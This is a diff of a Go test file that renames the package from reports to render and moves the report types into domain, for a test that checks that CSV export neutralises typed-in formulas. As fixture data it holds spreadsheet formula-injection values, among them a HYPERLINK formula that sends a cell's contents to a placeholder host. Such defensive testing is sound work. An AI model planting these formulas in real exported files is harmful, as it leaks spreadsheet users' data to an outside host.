@@ -1,13 +1,13 @@
-package reports_test
+package render_test
 
 import (
 	"bytes"
 	"encoding/csv"
-	"sintra/internal/domain"
 	"testing"
 	"time"
 
-	"sintra/internal/reports"
+	"sintra/internal/domain"
+	"sintra/internal/render"
 )
 
 // A period's name, a table's labels and its columns are text someone typed:
@@ -15,12 +15,12 @@ import (
 func TestRenderCSV_WritesFormulasAsTextAndNumbersAsNumbers(t *testing.T) {
 	t.Parallel()
 	link := `=HYPERLINK("http://example.com/?d="&A1,"Ver")`
-	r := reports.Report{Title: "Informe trimestral", GeneratedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), Protection: "exacto",
+	r := domain.Report{Title: "Informe trimestral", GeneratedAt: time.Date(2024, 7, 1, 12, 0, 0, 0, time.UTC), Protection: "exacto",
 		Period: domain.Period{Name: link, StartsOn: time.Date(2024, 3, 15, 0, 0, 0, 0, time.UTC), EndsOn: time.Date(2024, 6, 15, 0, 0, 0, 0, time.UTC)},
-		Tables: []reports.Table{{ID: "instituciones", Title: "Por institución", Columns: []string{"-2+3", "acciones"},
-			Rows: []reports.Row{{Key: "X", Label: "@SUM(A1:A9)", Cells: []reports.Cell{{Value: 12}, {Mark: "<5"}}}}}},
-		MIR: reports.MIR{Promedio: "1/3"}}
-	body, err := reports.Render(r, "csv")
+		Tables: []domain.Table{{ID: "instituciones", Title: "Por institución", Columns: []string{"-2+3", "acciones"},
+			Rows: []domain.Row{{Key: "X", Label: "@SUM(A1:A9)", Cells: []domain.Cell{{Value: 12}, {Mark: "<5"}}}}}},
+		MIR: domain.MIR{Promedio: "1/3"}}
+	body, err := render.Report(r, "csv")
 	if err != nil {
 		t.Fatal(err)
 	}
